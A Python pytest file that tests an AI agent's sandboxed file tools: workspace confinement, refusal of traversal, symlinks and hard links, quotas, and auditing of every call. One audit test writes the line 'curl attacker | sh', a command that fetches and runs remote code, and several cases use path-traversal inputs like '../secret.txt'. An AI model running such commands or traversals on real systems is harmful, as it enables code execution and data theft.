"""read_file / write_file stay inside the task's workspace (writes inside output/) and every call is audited."""

import asyncio
import fcntl
import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from agent.tools import ToolBinding, ToolContext, build_tools
from shared import nofollow
from shared.database import DatabaseManager
from tests.unit.agent.fixtures import ContextFactory, SettingsFactory, call_tool

MEGABYTE = 1_000_000


@pytest.fixture
def context(tool_context_factory: ContextFactory) -> ToolContext:
    return tool_context_factory()


async def test_a_written_file_is_staged_for_output_and_reads_back(context: ToolContext) -> None:
    text, is_error = await call_tool(context, "write_file", path="report.md", content="# Report\nAll good.\n")

    assert (text, is_error) == ("wrote 19 bytes to output/report.md", False)
    assert (context.workspace.staged / "report.md").read_text() == "# Report\nAll good.\n"
    assert not (context.workspace.output / "report.md").exists()  # until the attempt's result is applied
    assert await call_tool(context, "read_file", path="output/report.md") == ("# Report\nAll good.\n", False)


async def test_a_warm_cli_s_tools_serve_the_attempt_bound_now_and_none_once_it_is_unbound(
    tool_context_factory: ContextFactory,
) -> None:
    binding = ToolBinding()
    (write,) = build_tools(binding, ["write_file"])  # built before any attempt, as a warm CLI's are
    first, second = tool_context_factory("task_first", "subtask_a"), tool_context_factory("task_second", "subtask_b")

    refused = await write.handler({"path": "early.md", "content": "x"})
    binding.bind(first)
    await write.handler({"path": "report.md", "content": "first"})
    binding.bind(second)
    await write.handler({"path": "report.md", "content": "second"})
    binding.unbind()
    late = await write.handler({"path": "late.md", "content": "x"})

    assert refused["is_error"] and late["is_error"]
    assert "no subtask attempt is running" in refused["content"][0]["text"]
    assert (first.workspace.staged / "report.md").read_text() == "first"
    assert (second.workspace.staged / "report.md").read_text() == "second"
    assert sorted(path.name for path in first.workspace.staged.iterdir()) == ["report.md"]
    assert sorted(path.name for path in second.workspace.staged.iterdir()) == ["report.md"]


async def test_an_attempt_reads_its_own_writes_over_the_output_and_never_another_attempt_s(
    context: ToolContext, tool_context_factory: ContextFactory
) -> None:
    (context.workspace.output / "report.md").write_text("published by an earlier subtask")
    (context.workspace.output / "notes.md").write_text("earlier notes")
    other = tool_context_factory(subtask_id="subtask_sibling")
    await call_tool(other, "write_file", path="notes.md", content="the sibling's draft")

    await call_tool(context, "write_file", path="report.md", content="my draft")

    assert await call_tool(context, "read_file", path="output/report.md") == ("my draft", False)
    assert await call_tool(context, "read_file", path="output/notes.md") == ("earlier notes", False)
    assert await call_tool(other, "read_file", path="output/report.md") == ("published by an earlier subtask", False)
    staged = other.workspace.staged.relative_to(other.workspace.root).as_posix()
    text, is_error = await call_tool(context, "read_file", path=f"{staged}/notes.md")
    assert is_error and "other attempts' unfinished output" in text


async def test_output_prefix_and_subfolders_stay_in_output(context: ToolContext) -> None:
    await call_tool(context, "write_file", path="output/tables/q1.csv", content="a,b\n1,2\n")
    assert (context.workspace.staged / "tables" / "q1.csv").read_text() == "a,b\n1,2\n"
    assert not (context.workspace.staged / "output").exists()


async def test_input_files_of_the_workspace_are_readable(context: ToolContext) -> None:
    (context.workspace.root / "data").mkdir()
    (context.workspace.root / "data" / "input.txt").write_text("inputs")
    assert await call_tool(context, "read_file", path="data/input.txt") == ("inputs", False)


@pytest.mark.parametrize(
    ("tool_name", "path"),
    [
        ("read_file", "../secret.txt"),
        ("read_file", "data/../../secret.txt"),
        ("read_file", "{outside}/secret.txt"),
        ("write_file", "../escape.md"),
        ("write_file", "{outside}/escape.md"),
        ("write_file", "output/../../escape.md"),
    ],
)
async def test_traversal_and_absolute_paths_are_refused(context: ToolContext, tool_name: str, path: str) -> None:
    outside = context.workspace.root.parent
    (outside / "secret.txt").write_text("another task's data")
    path = path.format(outside=outside)
    arguments = {"path": path} if tool_name == "read_file" else {"path": path, "content": "x"}

    text, is_error = await call_tool(context, tool_name, **arguments)

    assert is_error
    assert "refused" in text
    assert "another task's data" not in text
    assert not (outside / "escape.md").exists()


async def test_a_symlink_pointing_outside_the_workspace_is_not_read(context: ToolContext) -> None:
    outside = context.workspace.root.parent / "outside.txt"
    outside.write_text("not yours")
    os.symlink(outside, context.workspace.root / "link.txt")

    text, is_error = await call_tool(context, "read_file", path="link.txt")

    assert is_error
    assert "'link.txt' is a symlink" in text
    assert "not yours" not in text


async def test_a_symlinked_folder_in_output_cannot_carry_a_write_outside(context: ToolContext) -> None:
    outside = context.workspace.root.parent / "elsewhere"
    outside.mkdir()
    context.workspace.staged.mkdir(parents=True)
    os.symlink(outside, context.workspace.staged / "sneaky")

    text, is_error = await call_tool(context, "write_file", path="sneaky/payload.sh", content="echo hi")

    assert is_error
    assert "'sneaky' is a symlink" in text
    assert list(outside.iterdir()) == []


async def test_writes_outside_output_but_inside_the_workspace_are_refused(context: ToolContext) -> None:
    context.workspace.staged.mkdir(parents=True)
    os.symlink(context.workspace.root, context.workspace.staged / "up")
    _text, is_error = await call_tool(context, "write_file", path="up/inputs.csv", content="overwritten")
    assert is_error
    assert not (context.workspace.root / "inputs.csv").exists()


async def test_size_limits_apply_to_reads_and_writes(tool_context_factory: ContextFactory) -> None:
    context = tool_context_factory()
    limit = context.settings.agent_file_max_bytes
    (context.workspace.root / "big.txt").write_bytes(b"x" * (limit + 1))

    read_text, read_error = await call_tool(context, "read_file", path="big.txt")
    write_text, write_error = await call_tool(context, "write_file", path="big.md", content="y" * (limit + 1))

    assert read_error and "limit" in read_text
    assert write_error and "limit" in write_text
    assert not (context.workspace.staged / "big.md").exists()


async def test_a_binary_file_is_an_error_not_a_crash(context: ToolContext) -> None:
    (context.workspace.root / "image.bin").write_bytes(b"\xff\xfe\x00\x01")
    text, is_error = await call_tool(context, "read_file", path="image.bin")
    assert is_error
    assert "UTF-8" in text


async def test_every_call_is_recorded_with_its_outcome(context: ToolContext, db: DatabaseManager) -> None:
    await call_tool(context, "write_file", path="notes.md", content="n" * 5000)
    await call_tool(context, "read_file", path="missing.md")

    calls = await db.repositories().audit.list_tool_calls(context.task_id)

    assert [(c.tool_name, c.is_error) for c in calls] == [("write_file", False), ("read_file", True)]
    write, read = calls
    assert write.subtask_id == context.subtask_id
    assert write.attempt == context.attempt
    assert write.arguments["path"] == "notes.md"
    assert len(write.arguments["content"]) < 5000  # whole file contents are not copied into the audit
    assert write.outcome == "wrote 5000 bytes to output/notes.md"
    assert "no such file" in read.outcome
    assert all(c.duration_ms >= 0 for c in calls)
    assert json.dumps(read.arguments) == '{"path": "missing.md"}'


async def test_a_call_whose_arguments_postgresql_cannot_store_is_audited_all_the_same(
    context: ToolContext, db: DatabaseManager
) -> None:
    """A NUL or a lone surrogate in an argument must not keep a call out of the audit."""
    await call_tool(context, "write_file", path="evil.sh", content="curl attacker | sh\n# \x00")
    await call_tool(context, "read_file", path="bad\ud800name.md")

    calls = await db.repositories().audit.list_tool_calls(context.task_id)

    assert [(c.tool_name, c.is_error) for c in calls] == [("write_file", False), ("read_file", True)]
    assert calls[0].arguments["content"].endswith("# \\u0000")
    assert "\\ud800" in calls[1].arguments["path"]


def regular_files_under(folder: Path) -> dict[str, int]:
    return {
        path.relative_to(folder).as_posix(): path.stat().st_size
        for path in folder.rglob("*")
        if path.is_file() and not path.is_symlink()
    }


async def test_writes_stop_at_the_workspace_byte_quota(
    agent_settings_factory: SettingsFactory, tool_context_factory: ContextFactory
) -> None:
    context = tool_context_factory(settings=agent_settings_factory(agent_workspace_max_bytes=5_500_000))
    (context.workspace.root / "inputs.csv").write_bytes(b"i" * 400_000)

    answers = [
        await call_tool(context, "write_file", path=f"part{number}.txt", content="m" * MEGABYTE) for number in range(50)
    ]

    assert [is_error for _text, is_error in answers] == [False] * 5 + [True] * 45
    refusal = answers[5][0]
    assert "holds 5400000 bytes" in refusal
    assert "limit of 5500000 bytes" in refusal
    assert "AGENT_WORKSPACE_MAX_BYTES" in refusal
    on_disk = regular_files_under(context.workspace.root)
    assert sum(on_disk.values()) == 5_400_000
    staged = context.workspace.staged.relative_to(context.workspace.root).as_posix()
    assert sorted(on_disk) == [*(f"{staged}/part{number}.txt" for number in range(5)), "inputs.csv"]


async def test_the_file_quota_counts_inputs_outputs_and_folders(
    agent_settings_factory: SettingsFactory, tool_context_factory: ContextFactory
) -> None:
    context = tool_context_factory(settings=agent_settings_factory(agent_workspace_max_files=5))
    (context.workspace.root / "data").mkdir()
    (context.workspace.root / "data" / "input.csv").write_text("a,b\n")

    assert (await call_tool(context, "write_file", path="a.md", content="a"))[1] is False
    assert (await call_tool(context, "write_file", path="tables/b.md", content="b"))[1] is False
    text, is_error = await call_tool(context, "write_file", path="c.md", content="c")
    replaced_text, replaced_error = await call_tool(context, "write_file", path="a.md", content="a again")

    assert is_error
    assert "holds 3 files and 2 folders" in text  # data/ and the staged tables/
    assert "writing output/c.md would pass" in text
    assert "limit of 5" in text
    assert "AGENT_WORKSPACE_MAX_FILES" in text
    assert not replaced_error, replaced_text
    staged = context.workspace.staged.relative_to(context.workspace.root).as_posix()
    assert sorted(regular_files_under(context.workspace.root)) == [
        f"{staged}/a.md",
        f"{staged}/tables/b.md",
        "data/input.csv",
    ]


async def test_replacing_a_file_does_not_count_it_twice(
    agent_settings_factory: SettingsFactory, tool_context_factory: ContextFactory
) -> None:
    context = tool_context_factory(settings=agent_settings_factory(agent_workspace_max_bytes=1500))

    first = await call_tool(context, "write_file", path="a.md", content="1" * 1000)
    replaced = await call_tool(context, "write_file", path="output/a.md", content="2" * 1200)
    too_much = await call_tool(context, "write_file", path="b.md", content="3" * 400)
    fits = await call_tool(context, "write_file", path="b.md", content="4" * 300)

    assert [is_error for _text, is_error in (first, replaced, too_much, fits)] == [False, False, True, False]
    assert "holds 1200 bytes" in too_much[0]
    assert regular_files_under(context.workspace.staged) == {"a.md": 1200, "b.md": 300}


@pytest.mark.parametrize("tool_name", ["read_file", "write_file"])
@pytest.mark.parametrize(
    ("path", "explanation"),
    [
        pytest.param(
            "a" * 300 + ".md",
            "is 303 bytes long in UTF-8; the limit of a file or folder name is 255",
            id="300-character-name",
        ),
        pytest.param(
            "é" * 130, "is 260 bytes long in UTF-8; the limit of a file or folder name is 255", id="name-of-260-bytes"
        ),
        pytest.param(
            "/".join(["d" * 200] * 10),
            "the path is 2009 bytes long in UTF-8; the limit is 1024",
            id="2000-character-path",
        ),
        pytest.param("d/" * 40 + "x.md", "has 41 parts; the limit is 32", id="too-deep"),
        pytest.param("\ud800.md", "is not valid Unicode text", id="lone-surrogate"),
        pytest.param(".", "names the workspace folder, not a file", id="dot"),
    ],
)
async def test_invalid_or_overlong_paths_are_refused_clearly(
    context: ToolContext, tool_name: str, path: str, explanation: str
) -> None:
    arguments = {"path": path} if tool_name == "read_file" else {"path": path, "content": "x"}

    text, is_error = await call_tool(context, tool_name, **arguments)

    assert is_error
    assert explanation in text
    assert len(text) < 300
    assert list(context.workspace.output.iterdir()) == []


async def test_os_failures_name_the_path_and_the_reason(context: ToolContext) -> None:
    await call_tool(context, "write_file", path="notes.md", content="notes")

    write_text, write_error = await call_tool(context, "write_file", path="notes.md/inner.md", content="x")
    read_text, read_error = await call_tool(context, "read_file", path="output/notes.md/inner.md")
    content_text, content_error = await call_tool(context, "write_file", path="odd.md", content="\ud800")

    assert write_error and read_error and content_error
    assert write_text == "cannot write 'notes.md/inner.md': Not a directory"
    assert read_text == "cannot read 'output/notes.md/inner.md': Not a directory"
    assert content_text == "the content is not valid Unicode text"
    assert regular_files_under(context.workspace.staged) == {"notes.md": 5}


async def test_a_folder_swapped_for_a_symlink_is_refused_for_reads_and_writes(context: ToolContext) -> None:
    await call_tool(context, "write_file", path="tables/q1.csv", content="mine")
    outside = context.workspace.root.parent / "another_task"
    outside.mkdir()
    (outside / "q1.csv").write_text("another task's data")
    (context.workspace.staged / "tables").rename(context.workspace.staged / "tables-before")
    os.symlink(outside, context.workspace.staged / "tables")

    read_text, read_error = await call_tool(context, "read_file", path="output/tables/q1.csv")
    write_text, write_error = await call_tool(context, "write_file", path="tables/q2.csv", content="escaped")

    assert read_error and write_error
    assert read_text == "'output/tables/q1.csv' is refused: 'tables' is a symlink, and the task's workspace allows none"
    assert "'tables' is a symlink" in write_text
    assert regular_files_under(outside) == {"q1.csv": len("another task's data")}


async def test_a_symlink_pointing_inside_the_workspace_is_refused_too(context: ToolContext) -> None:
    root, staged = context.workspace.root, context.workspace.staged
    (root / "data").mkdir()
    (root / "data" / "input.txt").write_text("inputs")
    (staged / "tables").mkdir(parents=True)
    (staged / "draft.md").write_text("draft")
    os.symlink("data/input.txt", root / "alias.txt")
    os.symlink(root / "data", root / "linked")
    os.symlink("tables", staged / "latest")
    os.symlink("draft.md", staged / "report.md")

    answers = [
        await call_tool(context, "read_file", path="alias.txt"),
        await call_tool(context, "read_file", path="linked/input.txt"),
        await call_tool(context, "write_file", path="latest/q.csv", content="through a link"),
        await call_tool(context, "write_file", path="report.md", content="through a link"),
    ]

    assert all(is_error and "symlink" in text for text, is_error in answers), answers
    assert list((staged / "tables").iterdir()) == []
    assert (staged / "draft.md").read_text() == "draft"
    assert (staged / "report.md").is_symlink()


@pytest.fixture
def swap_tree(tmp_path: Path) -> Iterator[tuple[Path, Path, int]]:
    """A workspace with output/tables/, a folder outside it, and a descriptor of the workspace."""
    root, outside = tmp_path / "workspace", tmp_path / "outside"
    (root / "output" / "tables").mkdir(parents=True)
    outside.mkdir()
    root_fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    yield root, outside, root_fd
    os.close(root_fd)


def test_a_folder_swapped_for_a_symlink_after_its_parent_was_opened_is_refused(
    swap_tree: tuple[Path, Path, int],
) -> None:
    root, outside, root_fd = swap_tree
    output_fd = nofollow.open_directory(root_fd, "output")
    # Between the walk's first component and its second, `tables` becomes a symlink to outside.
    (root / "output" / "tables").rename(root / "output" / "tables-before")
    os.symlink(outside, root / "output" / "tables")
    with pytest.raises(nofollow.SymlinkRefused):
        nofollow.open_directory(output_fd, "tables", create=True)
    os.close(output_fd)
    # The same swap one level up, caught by a walk from the root.
    (root / "output").rename(root / "output-before")
    os.symlink(outside, root / "output")
    with pytest.raises(nofollow.SymlinkRefused), nofollow.walk(root_fd, ["output", "new"], create=True):
        pass
    assert list(outside.iterdir()) == []


def test_a_folder_opened_before_a_swap_keeps_the_write_inside(swap_tree: tuple[Path, Path, int]) -> None:
    root, outside, root_fd = swap_tree
    with nofollow.walk(root_fd, ["output", "tables"]) as tables_fd:
        (root / "output" / "tables").rename(root / "output" / "tables-before")
        os.symlink(outside, root / "output" / "tables")
        nofollow.replace_file(tables_fd, "q.csv", b"data")
    assert list(outside.iterdir()) == []
    assert regular_files_under(root / "output") == {"tables-before/q.csv": 4}


async def test_a_write_waits_while_another_writer_holds_the_workspace(context: ToolContext) -> None:
    other_writer = os.open(context.workspace.root, os.O_RDONLY | os.O_DIRECTORY)
    try:
        fcntl.flock(other_writer, fcntl.LOCK_EX)  # as a writer in another process holds it while measuring
        write = asyncio.create_task(call_tool(context, "write_file", path="late.md", content="late"))
        await asyncio.sleep(0.3)
        assert not write.done()
        assert not (context.workspace.staged / "late.md").exists()
    finally:
        os.close(other_writer)

    assert await write == ("wrote 4 bytes to output/late.md", False)


async def test_empty_folders_count_toward_the_quota(
    agent_settings_factory: SettingsFactory, tool_context_factory: ContextFactory
) -> None:
    """Deep paths of empty files would otherwise fill the disk with folders the quota never sees."""
    context = tool_context_factory(settings=agent_settings_factory(agent_workspace_max_files=20))
    deep = "/".join(f"level{n}" for n in range(30))

    first, first_error = await call_tool(context, "write_file", path=f"{deep}/a.md", content="")
    second, second_error = await call_tool(context, "write_file", path=f"again/{deep}/b.md", content="")

    assert not first_error, first
    assert second_error and "30 folders" in second


async def test_a_file_with_other_hard_links_is_not_read(context: ToolContext, tmp_path: Path) -> None:
    """A hard link placed in the workspace from outside would otherwise read another task's or the host's file."""
    secret = tmp_path / "outside-secret.txt"
    secret.write_text("OUTSIDE SECRET")
    os.link(secret, context.workspace.root / "linked.txt")

    text, is_error = await call_tool(context, "read_file", path="linked.txt")

    assert is_error and "hard links" in text
    assert "OUTSIDE SECRET" not in text
